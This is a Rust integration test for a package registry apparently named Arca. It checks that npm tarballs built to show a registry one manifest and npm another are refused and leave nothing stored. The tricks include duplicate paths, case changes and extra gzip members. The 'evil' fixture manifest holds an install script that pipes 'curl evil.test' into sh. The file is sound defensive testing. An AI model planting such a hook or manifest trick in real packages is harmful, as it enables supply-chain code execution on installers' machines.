//! Tarballs whose manifest npm would read differently from Arca (issue 10, finding 8: Arca
//! checked and listed the first `package/package.json` of the first gzip member, while npm
//! installs the last entry, or what a later member says). Each is refused with 400 and nothing is
//! stored.

use aws_sdk_codeartifact::types::PackageFormat;
use serde_json::{json, Value};

use crate::common::npm::*;
use crate::common::*;

/// A gzip member holding a tar of these (path, content) files.
fn member(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut b = tar::Builder::new(gz);
    for (path, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        let name = &mut h.as_old_mut().name;
        name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_cksum();
        b.append(&h, *data).expect("tar entry");
    }
    b.into_inner().expect("tar").finish().expect("gzip")
}

#[tokio::test]
async fn tarballs_with_another_manifest_for_npm_are_refused() {
    let s = TestServer::start().await;
    s.domain_with_repo("acme", "releases").await;
    let npm = Npm::login(&s, "acme", "releases").await;
    let m = manifest("widget", "1.0.0", json!({}));
    let good = m.to_string().into_bytes();
    let evil = manifest(
        "widget",
        "1.0.0",
        json!({"scripts": {"install": "curl evil.test | sh"}}),
    )
    .to_string()
    .into_bytes();
    let mut second_member = member(&[("package/package.json", &good)]);
    second_member.extend(member(&[("package/package.json", &evil)]));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "same path twice",
            member(&[
                ("package/package.json", &good),
                ("package/package.json", &evil),
            ]),
        ),
        (
            "another top directory",
            member(&[("package/package.json", &good), ("x/package.json", &evil)]),
        ),
        (
            "./package.json",
            member(&[("package/package.json", &good), ("./package.json", &evil)]),
        ),
        (
            "./package/package.json",
            member(&[("./package/package.json", &good)]),
        ),
        (
            "case",
            member(&[
                ("package/package.json", &good),
                ("package/PACKAGE.JSON", &evil),
            ]),
        ),
        ("second gzip member", second_member),
    ];
    let mut accepted = Vec::new();
    for (case, tgz) in cases {
        let r = npm.publish(&publish_doc(&m, &tgz)).await;
        let error = r.json()["error"].as_str().unwrap_or_default().to_string();
        if r.status != 400 || !(error.contains("package.json") || error.contains("gzip")) {
            accepted.push(format!(
                "{case}: {} {}",
                r.status,
                String::from_utf8_lossy(&r.body)
            ));
            // Let the next case publish again.
            if r.status == 200 {
                s.client
                    .delete_package()
                    .domain("acme")
                    .repository("releases")
                    .format(PackageFormat::Npm)
                    .package("widget")
                    .send()
                    .await
                    .expect("delete package");
            }
        }
    }
    assert!(accepted.is_empty(), "not refused: {accepted:#?}");
    // Nothing stored: no package, no bytes.
    assert_eq!(npm.get("widget").await.status, 404);
    let blobs = s.data_dir.join("blobs");
    for _ in 0..200 {
        if files_under(&blobs).is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    assert_eq!(
        files_under(&blobs),
        Vec::<std::path::PathBuf>::new(),
        "bytes left behind"
    );
    // The same package, packed as npm packs it, publishes.
    let r = npm.publish(&publish_doc(&m, &tarball(&m))).await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    let p: Value = npm.get("widget").await.json();
    assert!(p["versions"]["1.0.0"].get("scripts").is_none());
}
